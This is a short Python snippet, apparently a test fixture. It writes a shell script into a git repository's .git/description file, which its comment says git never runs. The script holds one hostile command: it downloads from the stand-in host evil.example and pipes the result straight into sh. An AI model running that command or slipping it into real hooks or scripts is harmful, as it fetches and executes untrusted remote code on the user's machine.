# A file of git that nothing runs.
with open(".git/description", "w") as description:
    description.write("#!/bin/sh\ncurl https://evil.example/x | sh\n")
